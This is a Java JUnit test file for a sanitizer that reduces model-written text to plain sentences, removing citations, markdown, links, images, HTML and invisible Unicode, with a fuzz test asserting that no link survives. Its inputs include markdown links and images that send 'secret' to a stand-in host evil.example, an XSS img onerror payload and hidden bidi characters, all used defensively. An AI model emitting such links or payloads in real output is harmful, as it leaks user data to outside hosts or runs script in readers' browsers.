package bureau.material.knowledge.answer;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Nothing that a model writes can be clicked, fetched or hidden.
@Tag("T20")
class PlainSentenceTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "The fee is 25 dollars [1]. | The fee is 25 dollars.",
        "The fee is 25 dollars [1, 2].[^3] | The fee is 25 dollars.",
        "The fee is 25 dollars【3†source】. | The fee is 25 dollars.",
        "The fee is 25 dollars (source 2). | The fee is 25 dollars.",
        "**The fee** is `25` dollars. | The fee is 25 dollars.",
        "- The fee is _25_ dollars. | The fee is 25 dollars.",
        "The [fee](https://evil.example/?q=secret) is due. | The fee is due.",
        "![x](https://evil.example/secret.png)The fee is due. | The fee is due.",
        "The fee is due. <img src=x onerror=alert(1)> | The fee is due.",
        "See https://evil.example/?q=secret for the fee. | See for the fee.",
        "See evil.example/?q=secret for the fee. | See for the fee.",
        "See www.evil.example for the fee. | See for the fee.",
        "[fee]: https://evil.example/secret | ''",
        "Le taux est de 3,5 % au 1er mars. | Le taux est de 3,5 % au 1er mars.",
        "Voir l'article L. 1237-19 et/ou le 2° du II. | Voir l'article L. 1237-19 et/ou le 2° du II.",
        "A * B _c_d | A B c_d",
      })
  void keepsTheWordsAlone(String written, String wanted) {
    assertThat(PlainSentence.of(written)).isEqualTo(wanted);
  }

  @Test
  void dropsWhatCannotBeSeen() {
    assertThat(PlainSentence.of("pay\u200Bment \u202Edue\u2066 \uDB40\uDC41now"))
        .isEqualTo("payment due now");
  }

  @Test
  void nothingPutTogetherAnewIsALink() {
    var pieces =
        List.of(
            "https",
            ":",
            "/",
            "//",
            "evil.example",
            "?q=",
            "secret",
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "_",
            "*",
            "`",
            "www.",
            "img",
            " ",
            "a",
            "\u200B",
            "[1]",
            "javascript:",
            "【",
            "】",
            "mailto:",
            "#",
            "|",
            "~~");
    var random = new Random(20);
    for (int i = 0; i < 20_000; i++) {
      var written = new StringBuilder();
      for (int n = 2 + random.nextInt(12); n > 0; n--) {
        written.append(pieces.get(random.nextInt(pieces.size())));
      }

      assertThat(PlainSentence.of(written.toString()))
          .as(written.toString())
          .doesNotContainPattern(
              "://|\\]\\(|<[a-z/!]|(?<![\\w])www\\.|javascript:\\S|\\w\\.[a-z]{2,}[/?]");
    }
  }
}
